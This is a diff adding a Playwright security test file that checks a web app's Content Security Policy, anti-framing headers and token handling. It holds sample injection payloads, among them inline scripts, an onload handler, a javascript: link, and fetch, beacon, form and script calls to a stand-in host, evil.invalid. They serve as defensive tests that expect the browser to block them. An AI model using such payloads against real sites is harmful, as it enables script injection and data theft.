@@ -1,0 +1,180 @@
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import type { Page } from '@playwright/test';
+import { expect, test } from '../../support/fixtures.ts';
+
+/** What somebody who got markup or a script into a page would try. Each names the directive that stops it. */
+const attacks: [name: string, directive: string, attack: () => void][] = [
+  [
+    'an inline script',
+    'script-src-elem',
+    () => {
+      const script = document.createElement('script');
+      script.textContent = 'window.planted = true';
+      document.body.append(script);
+    },
+  ],
+  [
+    'a script of another site',
+    'script-src-elem',
+    () => {
+      const script = document.createElement('script');
+      script.src = 'http://evil.invalid/x.js';
+      document.body.append(script);
+    },
+  ],
+  [
+    'an event handler in markup',
+    'script-src-attr',
+    () => document.body.insertAdjacentHTML('beforeend', '<img src="/favicon.svg" onload="window.planted = true">'),
+  ],
+  [
+    'a javascript: link',
+    'script-src-elem',
+    () => {
+      const link = document.createElement('a');
+      link.href = 'javascript:window.planted=true';
+      document.body.append(link);
+      link.click();
+    },
+  ],
+  ['a text run as code', 'script-src', () => setTimeout('window.planted = true', 0)],
+  ['a call to another site', 'connect-src', () => void fetch('http://evil.invalid/').catch(() => undefined)],
+  ['a beacon to another site', 'connect-src', () => void navigator.sendBeacon('http://evil.invalid/', 'x')],
+  [
+    'a picture of another site',
+    'img-src',
+    () => {
+      document.body.append(Object.assign(new Image(), { src: 'http://evil.invalid/x.png' }));
+    },
+  ],
+  [
+    'a style sheet in markup',
+    'style-src-elem',
+    () => document.body.insertAdjacentHTML('beforeend', '<style>body{display:none}</style>'),
+  ],
+  [
+    'a plug-in',
+    'object-src',
+    () => document.body.insertAdjacentHTML('beforeend', '<object data="http://evil.invalid/x"></object>'),
+  ],
+  [
+    'another base',
+    'base-uri',
+    () => document.head.insertAdjacentHTML('beforeend', '<base href="http://evil.invalid/">'),
+  ],
+  [
+    'a form to another site',
+    'form-action',
+    () => {
+      const form = Object.assign(document.createElement('form'), { action: 'http://evil.invalid/' });
+      document.body.append(form);
+      form.submit();
+    },
+  ],
+];
+
+type Marked = Window & { planted?: boolean; blocked?: string[] };
+
+async function noteViolations(page: Page): Promise<void> {
+  await page.addInitScript(() => {
+    (window as Marked).blocked = [];
+    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
+      (window as Marked).blocked?.push(effectiveDirective);
+    });
+  });
+}
+
+for (const [name, directive, attack] of attacks) {
+  test(`${name} is blocked and reported`, async ({ openPage, watch }) => {
+    watch.allow(/content policy|Content Security Policy|ERR_/);
+    const page = await openPage();
+    await noteViolations(page);
+    await page.goto('/404');
+    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
+    await page.evaluate(attack);
+
+    await expect.poll(() => page.evaluate(() => (window as Marked).blocked)).toContain(directive);
+    expect(await page.evaluate(() => (window as Marked).planted)).toBeUndefined();
+    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
+  });
+}
+
+test('text is not run as code by eval and its kin', async ({ openPage, watch }) => {
+  watch.allow(/content policy|Content Security Policy/);
+  const page = await openPage();
+  await page.goto('/404');
+  await page
+    .addScriptTag({
+      content: 'for (const run of [eval, Function]) { try { run("1")(); window.planted = true } catch {} }',
+    })
+    .catch(() => undefined); // refused as an inline script: that is as good
+
+  expect(await page.evaluate(() => (window as Marked).planted)).toBeUndefined();
+});
+
+test('no page of ours stands in a frame of another site', async ({ openPage, world, watch }) => {
+  watch.allow(/frame|ERR_BLOCKED_BY_RESPONSE|content policy/i);
+  const framing = createServer((_request, response) => {
+    response.setHeader('content-type', 'text/html');
+    response.end(`<h1>Free heroes</h1><iframe src="${world.url}/login" title="prize"></iframe>`);
+  });
+  await new Promise<void>((resolve) => framing.listen(0, '127.0.0.1', resolve));
+  try {
+    const page = await openPage();
+    const { port } = framing.address() as AddressInfo;
+    await page.goto(`http://127.0.0.1:${String(port)}/`);
+    await page.waitForLoadState('load');
+
+    const [frame] = page.frames().filter((each) => each !== page.mainFrame());
+    await expect.poll(() => frame?.url()).toMatch(/^chrome-error:/);
+  } finally {
+    framing.close();
+  }
+});
+
+test('tokens are in no URL, no Referer, no console and no log', async ({ openPlayer, world }) => {
+  const player = await openPlayer();
+  const { page } = player;
+  const sent: string[] = [];
+  page.on('request', (request) => sent.push(request.url(), request.headers()['referer'] ?? ''));
+  page.on('console', (message) => sent.push(message.text()));
+  await player.loginAsDemo('rich');
+  const readTokens = () =>
+    page.evaluate(() => {
+      const { jwtKey, refreshToken } = JSON.parse(localStorage.getItem('userInfo') ?? '{}') as Record<string, string>;
+      return [jwtKey ?? '', refreshToken ?? ''];
+    });
+  const tokens = await readTokens();
+  expect(tokens.filter((token) => token.length > 20)).toHaveLength(2);
+  const { hero } = world.info.contracts;
+  for (const where of ['/', '/market/hero', '/hero/list', `/hero/details/${hero}/1`, '/no/such/page', '/login']) {
+    await page.goto(where);
+    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
+    sent.push(page.url());
+  }
+
+  // The signature is what makes a token one: parts that any token has say nothing.
+  const secrets = [...tokens, ...(await readTokens())].map((token) => token.slice(-24));
+  const leaks = (texts: readonly string[]) => texts.filter((text) => secrets.some((secret) => text.includes(secret)));
+  expect(sent.length).toBeGreaterThan(20);
+  expect(leaks(sent)).toEqual([]);
+  expect(leaks([world.log])).toEqual([]);
+});
+
+test('every page comes with the headers that protect it', async ({ openPage }) => {
+  const page = await openPage();
+  for (const where of ['/', '/market/hero', '/login', '/no/such/page']) {
+    const headers = (await page.goto(where))?.headers() ?? {};
+    const policy = headers['content-security-policy'] ?? '';
+    const scripts = /script-src ([^;]+)/.exec(policy)?.[1] ?? '';
+
+    expect(scripts, where).toMatch(/'nonce-[\w-]{16,}'/);
+    expect(scripts, where).not.toMatch(/unsafe-inline|unsafe-eval|\*|https?:(?!\/\/)/);
+    expect(policy).toContain("frame-ancestors 'none'");
+    expect(headers).toMatchObject({ 'x-content-type-options': 'nosniff', 'x-frame-options': 'DENY' });
+    expect(headers['referrer-policy']).toMatch(
+      /^(strict-origin-when-cross-origin|no-referrer|same-origin|strict-origin)$/,
+    );
+  }
+});
